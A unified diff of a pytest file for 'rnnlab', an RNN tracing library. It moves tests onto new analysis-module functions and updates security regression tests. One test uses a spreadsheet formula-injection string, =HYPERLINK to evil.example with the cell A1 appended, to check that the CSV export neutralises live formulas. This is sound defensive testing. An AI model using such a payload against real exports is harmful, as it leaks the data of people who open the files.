@@ -1,4 +1,4 @@
-"""rnnlab.trace: the trace engine on small trained runs (trained once per test session)."""
+"""rnnlab.analysis: the trace engine and its analyses on small trained runs (trained once per test session)."""
 import json
 
 import numpy as np
@@ -6,14 +6,16 @@ import pytest
 import tensorflow as tf
 
 from rnnlab import cli
-from rnnlab import trace as trace_module
 from rnnlab.config import CLASS_NAMES
 from rnnlab.errors import InputError
 from rnnlab.models import token_model, vectorize
 from rnnlab.cells import CELLS
 from rnnlab.reference import keras_sequences
 from rnnlab.text import clean_text
-from rnnlab.trace import TraceError, Tracer, get_tracer, project, trace_headline
+from rnnlab.analysis import projection
+from rnnlab.analysis.neurons import neuron_contexts
+from rnnlab.analysis.padding import padding_demo
+from rnnlab.analysis.trace import TraceError, Tracer
 from rnnlab.training import predict_encoded
 
 ATOL = 1e-5
@@ -29,15 +31,15 @@ RUNS = {
 
 
 @pytest.fixture(scope="module", params=list(RUNS))
-def traced(request, make_run):
+def traced(request, make_run, tracer_of):
     run = make_run(**RUNS[request.param])
-    return run, get_tracer(run)
+    return run, tracer_of(run)
 
 
 @pytest.fixture(scope="module")
-def bilstm(make_run):
+def bilstm(make_run, tracer_of):
     run = make_run(**RUNS["bilstm"])
-    return run, get_tracer(run)
+    return run, tracer_of(run)
 
 
 _TOKEN_MODELS = {}
@@ -192,15 +194,8 @@ def test_no_retracing_across_lengths(bilstm):
     _, tracer = bilstm
     for text in ("oil", "oil prices", HEADLINE, HEADLINE + " again and again"):
         tracer.trace(text)
-    tracer.padding_demo("oil prices", pads=3)
+    padding_demo(tracer, "oil prices", pads=3)
     assert all(count == 1 for count in tracer.tracing_counts().values()), tracer.tracing_counts()
-
-
-def test_trace_headline_reuses_one_tracer(bilstm):
-    run, tracer = bilstm
-    assert get_tracer(run) is tracer
-    trace = trace_headline(run, "Stocks rally", integrated_gradients=False)
-    assert trace.run_id == run.run_id and "integrated_gradients" not in trace.attributions
 
 
 # -- output formats ----------------------------------------------------------------------
@@ -239,42 +234,42 @@ def test_to_frame_has_one_row_per_token(bilstm):
 
 def test_projection_basis_is_cached_and_reused(bilstm, monkeypatch):
     run, tracer = bilstm
-    basis = tracer.projection_basis()
-    path = run.path / trace_module.PCA_FILE
+    basis = projection.projection_basis(tracer)
+    path = run.path / projection.PCA_FILE
     assert path.is_file() and not [p for p in run.path.iterdir() if p.name.endswith(".tmp")]
-    assert np.asarray(basis["components"]).shape == (2, 2 * run.config.units)
-    assert basis["n_headlines"] == trace_module.PCA_SAMPLE_SIZE
+    assert np.asarray(basis.components).shape == (2, 2 * run.config.units)
+    assert basis.n_headlines == projection.PCA_SAMPLE_SIZE
     trace = tracer.trace(HEADLINE, integrated_gradients=False)
     assert trace.projection.shape == (len(trace.tokens), 2)
 
     # A fresh tracer (another process, say) reads pca.json instead of fitting again.
-    monkeypatch.setattr(Tracer, "_fit_basis", lambda self: pytest.fail("fitted again"))
+    monkeypatch.setattr(projection, "fit_basis", lambda *args: pytest.fail("fitted again"))
     fresh = Tracer(run)
-    assert fresh.projection_basis() == json.loads(path.read_text())
+    assert projection.projection_basis(fresh) == basis
     np.testing.assert_allclose(fresh.trace(HEADLINE, integrated_gradients=False).projection, trace.projection,
                                atol=1e-6)
     # The path ends where the classifier's input for the whole text lies.
     feats, _ = tracer.features(ids_of(run, HEADLINE)[None], np.ones((1, len(trace.tokens)), bool))
-    np.testing.assert_allclose(project(basis, feats)[0], trace.projection[-1], atol=1e-5)
+    np.testing.assert_allclose(basis.project(feats)[0], trace.projection[-1], atol=1e-5)
 
 
 def test_neuron_contexts(traced):
     run, tracer = traced
     layer = f"rnn_{run.config.layers}"
     direction = "backward" if run.config.bidirectional else "forward"
-    result = tracer.neuron_contexts(layer, direction, unit=2, n=5, window=2)
-    top, bottom = result["top"], result["bottom"]
+    result = neuron_contexts(tracer, layer, direction, unit=2, n=5, window=2)
+    top, bottom = result.top, result.bottom
     assert len(top) == 5 and len(bottom) == 5
-    values = [c["value"] for c in top]
-    assert values == sorted(values, reverse=True) and top[-1]["value"] >= bottom[-1]["value"]
-    assert [c["value"] for c in bottom] == sorted(c["value"] for c in bottom)
-    assert len({c["context"] for c in top}) == 5
+    values = [c.value for c in top]
+    assert values == sorted(values, reverse=True) and top[-1].value >= bottom[-1].value
+    assert [c.value for c in bottom] == sorted(c.value for c in bottom)
+    assert len({c.context for c in top}) == 5
     best = top[0]
-    assert f"«{best['token']}»" in best["context"]
+    assert f"«{best.token}»" in best.context
     # The value is that unit's state at that token when the headline alone is traced.
-    trace = tracer.trace(best["headline"], integrated_gradients=False, projection=False)
-    assert trace.tokens[best["position"]].token == best["token"] or best["token"] == "[UNK]"
-    np.testing.assert_allclose(trace.layer(layer, direction).hidden[best["position"], 2], best["value"], atol=ATOL)
+    trace = tracer.trace(best.headline, integrated_gradients=False, projection=False)
+    assert trace.tokens[best.position].token == best.token or best.token == "[UNK]"
+    np.testing.assert_allclose(trace.layer(layer, direction).hidden[best.position, 2], best.value, atol=ATOL)
 
 
 def test_neuron_contexts_refuse_bad_requests(bilstm):
@@ -282,25 +277,25 @@ def test_neuron_contexts_refuse_bad_requests(bilstm):
     for args in (("rnn_9", "forward", 0), ("rnn_1", "sideways", 0), ("rnn_1", "forward", 8),
                  ("rnn_1", "forward", -1)):
         with pytest.raises(TraceError):
-            tracer.neuron_contexts(*args)
+            neuron_contexts(tracer, *args)
 
 
 def test_padding_demo(traced):
     run, tracer = traced
-    demo = tracer.padding_demo("Oil prices soar as stocks fall", pads=6)
-    assert demo["model_masking"] is run.config.masking
-    for name in ("masked", "unmasked"):
-        assert demo[name]["probabilities"].shape == (7, 4) and demo[name]["state_drift"].shape == (7,)
-        assert demo[name]["state_drift"][0] == 0
-    assert demo["masked"]["state_drift"].max() < 1e-5
-    assert (demo["unmasked"]["state_drift"][1:] > 1e-4).all()
+    demo = padding_demo(tracer, "Oil prices soar as stocks fall", pads=6)
+    assert demo.model_masking is run.config.masking
+    for read in (demo.masked, demo.unmasked):
+        assert read.probabilities.shape == (7, 4) and read.state_drift.shape == (7,)
+        assert read.state_drift[0] == 0
+    assert demo.masked.state_drift.max() < 1e-5
+    assert (demo.unmasked.state_drift[1:] > 1e-4).all()
     # The run's own setting is what its model really does with padding.
     ids = ids_of(run, "Oil prices soar as stocks fall")
     padded = np.array([np.concatenate([ids, np.zeros(k, np.int64)]) for k in (0, 6)][1:])
-    own = demo["masked" if run.config.masking else "unmasked"]["probabilities"][6]
+    own = demo.own.probabilities[6]
     np.testing.assert_allclose(own, np.asarray(tokens_model(run)(padded))[0], atol=ATOL)
     with pytest.raises(TraceError):
-        tracer.padding_demo("oil", pads=-1)
+        padding_demo(tracer, "oil", pads=-1)
 
 
 # -- command line ------------------------------------------------------------------------
@@ -354,7 +349,7 @@ def own_run(make_run, tmp_path):
     store = RunStore(tmp_path)
     store.save(run.run_id, run.model, run.config, run.history, run.metrics)
     copy = store.load(run.run_id)
-    Tracer(copy).projection_basis()
+    projection.projection_basis(Tracer(copy))
     return copy
 
 
@@ -368,27 +363,27 @@ def own_run(make_run, tmp_path):
 def test_a_tampered_pca_json_is_refitted_never_served(own_run, monkeypatch, field, value):
     """Finding 3 (issue 16): a pca.json with explained_variance_ratio "ab" or [], or
     class_centroids [1, 2], crashed Explore: only mean and components were checked."""
-    path = own_run.path / trace_module.PCA_FILE
+    path = own_run.path / projection.PCA_FILE
     good = json.loads(path.read_text())
     if field == "mean" and isinstance(value, float):
         value = [value] * len(good["mean"])
     path.write_text(json.dumps({**good, field: value}))
-    assert Tracer(own_run)._load_basis() is None
-    monkeypatch.setattr(Tracer, "_fit_basis", lambda self: "refitted")
-    assert Tracer(own_run).projection_basis() == "refitted"
+    assert projection.load_basis(Tracer(own_run)) is None
+    monkeypatch.setattr(projection, "fit_and_write", lambda *args: "refitted")
+    assert projection.projection_basis(Tracer(own_run)) == "refitted"
 
 
 def test_a_refitted_basis_replaces_the_tampered_file(own_run):
     """Finding 3 (issue 16): the bad file is rewritten with a good basis."""
-    path = own_run.path / trace_module.PCA_FILE
+    path = own_run.path / projection.PCA_FILE
     good = json.loads(path.read_text())
     path.write_text(json.dumps({**good, "class_centroids": [1, 2]}))
-    basis = Tracer(own_run).projection_basis()
-    assert basis["class_centroids"] == good["class_centroids"]
+    basis = projection.projection_basis(Tracer(own_run))
+    assert basis.class_centroids == good["class_centroids"]
     assert json.loads(path.read_text())["class_centroids"] == good["class_centroids"]
 
 
-def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
+def test_trace_csv_holds_no_live_spreadsheet_formula(make_run, tracer_of):
     """Finding 7 (issue 16): a shared link with headline =HYPERLINK("http://..."&A1,"Click")
     made the trace CSV download hold a live formula in its word column."""
     import csv
@@ -396,7 +391,7 @@ def test_trace_csv_holds_no_live_spreadsheet_formula(make_run):
 
     from rnnlab_app.ui import trace_csv
     text = '=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd -2 @SUM(A1) rally'
-    trace = get_tracer(make_run()).trace(text, integrated_gradients=False)
+    trace = tracer_of(make_run()).trace(text, integrated_gradients=False)
     assert any(t.word.startswith("=HYPERLINK") for t in trace.tokens)
     for data in (trace.to_csv(), trace_csv(trace)):
         rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
